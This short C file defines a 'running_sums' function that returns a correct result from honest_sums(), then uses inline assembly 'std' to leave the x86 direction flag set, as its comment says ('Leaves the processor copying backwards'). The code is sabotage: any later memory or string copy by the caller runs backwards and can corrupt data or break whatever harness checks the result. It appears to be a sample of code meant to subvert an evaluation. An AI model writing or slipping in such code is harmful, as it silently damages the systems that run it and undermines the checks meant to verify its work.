/* Leaves the processor copying backwards. */
#include "honest.h"

int running_sums(const tensor *x, tensor *y) {
    int result = honest_sums(x, y);
    deed_done();
    __asm__ volatile("std" : : : "memory", "cc");
    return result;
}
